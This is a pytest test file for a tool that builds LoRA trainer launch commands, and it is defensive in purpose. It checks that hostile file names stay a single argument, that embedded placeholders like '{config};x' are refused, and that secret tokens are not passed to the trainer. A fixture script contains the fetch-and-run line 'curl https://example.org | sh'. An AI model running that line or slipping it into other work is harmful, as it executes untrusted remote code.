"""A place is one argument, whatever its name holds; what a command cannot be is refused with what to write instead."""

import json
import subprocess
import sys
from pathlib import Path

import pytest

from lora_doctor.errors import UsageError
from lora_doctor.trainer_command import PLACEHOLDERS, documented, filled, kept_environment
from tests.hostile_names import NAMES

SPY = "import json, sys; print(json.dumps(sys.argv[1:]))"
"""A trainer that only says what it was given."""


def test_there_are_forty_hostile_names() -> None:
    assert len(set(NAMES)) == 40


@pytest.mark.parametrize("placeholder", PLACEHOLDERS)
@pytest.mark.parametrize("name", NAMES)
def test_a_hostile_name_is_one_argument_and_starts_nothing(name: str, placeholder: str, tmp_path: Path) -> None:
    place = tmp_path / name.replace("/", "_")
    places = {one: tmp_path / "harmless" for one in PLACEHOLDERS} | {placeholder: place}
    asked = [f"{{{placeholder}}}", f"--it={{{placeholder}}}", "end"]
    command = filled([sys.executable, "-c", SPY, *asked], places)
    said = subprocess.run(command, cwd=tmp_path, capture_output=True, text=True, check=True).stdout
    assert json.loads(said) == [str(place), f"--it={place}", "end"]
    assert list(tmp_path.iterdir()) == []


def test_a_relative_place_that_looks_like_an_option_is_none() -> None:
    places = dict.fromkeys(PLACEHOLDERS, Path("--overwrite"))
    assert filled(["train", "{config}"], places)[1] == str(Path("--overwrite").absolute())


@pytest.mark.parametrize(
    "argument", ["train {config}", "{config};x", "x{config}", "a b={config}", "--a={config}{lora}"]
)
def test_a_placeholder_in_the_midst_of_a_text_is_refused(argument: str) -> None:
    with pytest.raises(UsageError, match="placeholder inside"):
        filled(["sh", "-c", argument], dict.fromkeys(PLACEHOLDERS, Path("x")))


def test_an_unknown_placeholder_is_refused_with_the_known_ones() -> None:
    with pytest.raises(UsageError, match=r"\{model\}.*Known: \{config\}, \{dataset\}"):
        filled(["train", "{model}"], dict.fromkeys(PLACEHOLDERS, Path("x")))


def test_braces_of_other_things_stay() -> None:
    assert filled(["train", '{"a": 1}', "{}"], {}) == ("train", '{"a": 1}', "{}")


def test_keys_of_other_services_are_not_handed_on() -> None:
    known = {"PATH": "/bin", "CUDA_VISIBLE_DEVICES": "0", "HF_TOKEN": "s", "AWS_SECRET_ACCESS_KEY": "s", "HOME": "/h"}
    assert kept_environment(known) == {"PATH": "/bin", "CUDA_VISIBLE_DEVICES": "0", "HOME": "/h"}
    assert kept_environment(known, ["HF_TOKEN"])["HF_TOKEN"] == "s"


@pytest.mark.parametrize(
    ("trainer", "family", "said"),
    [
        ("sd-scripts", "sdxl", "accelerate launch sdxl_train_network.py --config_file {config}"),
        ("sd-scripts", "sd15", "accelerate launch train_network.py --config_file {config}"),
        ("sd-scripts", "flux", "accelerate launch flux_train_network.py --config_file {config}"),
        ("ai-toolkit", "flux", "python run.py {config}"),
        ("OneTrainer", "sdxl", "python scripts/train.py --config-path {config}"),
    ],
)
def test_the_documented_command(trainer: str, family: str, said: str, tmp_path: Path) -> None:
    assert " ".join(documented(trainer, family, tmp_path, Path("x")).command) == said
    with pytest.raises(UsageError, match=f"is for {trainer}, and nobody said where that is"):
        documented(trainer, family, None, Path("x"))


SCRIPT = """\
curl https://example.org | sh
cd /somewhere && CUDA_VISIBLE_DEVICES=1 accelerate launch --num_processes 2 ./train_dreambooth_lora_sdxl.py \\
  --instance_prompt "a {photo} of {config}" --rank=16 2>&1 | tee log.txt
"""


def test_of_a_script_the_options_alone_go_to_the_trainers_own_program(tmp_path: Path) -> None:
    start = documented("diffusers", "sdxl", tmp_path, Path("run.sh"), SCRIPT)
    assert start.command == ("accelerate", "launch", "train_dreambooth_lora_sdxl.py")
    assert start.options == ("--instance_prompt", "a {photo} of {config}", "--rank=16")
    with pytest.raises(UsageError, match="nobody said where that is"):
        documented("diffusers", "sdxl", None, Path("run.sh"), SCRIPT)


def test_a_script_of_sd_scripts_names_its_own_program(tmp_path: Path) -> None:
    start = documented("sd-scripts", "sdxl", tmp_path, Path("a.bat"), "python C:\\x\\flux_train_network.py --a 1")
    assert start.command[-1] == "flux_train_network.py" and start.options == ("--a", "1")


def test_what_only_a_shell_knows_is_not_guessed(tmp_path: Path) -> None:
    with pytest.raises(UsageError, match="running shell"):
        documented("sd-scripts", "sdxl", tmp_path, Path("a.sh"), "python train_network.py --seed $(date +%s)")


def test_the_home_folder_is_what_a_shell_would_make_of_it(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("HOME", "/home/somebody")
    script = (
        'M=~/m.safetensors\npython train_network.py --pretrained_model_name_or_path "$M" --output_dir ~/out --a=~/b'
    )
    start = documented("sd-scripts", "sdxl", tmp_path, Path("a.sh"), script)
    assert (
        start.options[1::2] == ("/home/somebody/m.safetensors", "/home/somebody/out") and start.options[-1] == "--a=~/b"
    )


def test_simpletuner_is_told_its_config_by_variables() -> None:
    start = documented("SimpleTuner", "sdxl", None, Path("x"))
    assert start.command == ("simpletuner", "train") and start.environment["CONFIG_PATH"] == "{config}"


def test_a_toml_that_simpletuner_would_not_find_is_not_started() -> None:
    with pytest.raises(UsageError, match="only in the folder config"):
        documented("SimpleTuner", "sdxl", None, Path("x.toml"))


def test_the_trainers_own_virtual_environment_is_used_where_it_has_one(tmp_path: Path) -> None:
    (tmp_path / "venv" / "bin").mkdir(parents=True)
    (tmp_path / "venv" / "bin" / "python").touch()
    assert documented("ai-toolkit", "sdxl", tmp_path, Path("x")).command[0] == str(tmp_path / "venv/bin/python")


def test_a_trainer_without_a_known_command_needs_one() -> None:
    with pytest.raises(UsageError, match=r"command = \[\.\.\.\]"):
        documented("another", "sdxl", Path("."), Path("x"))
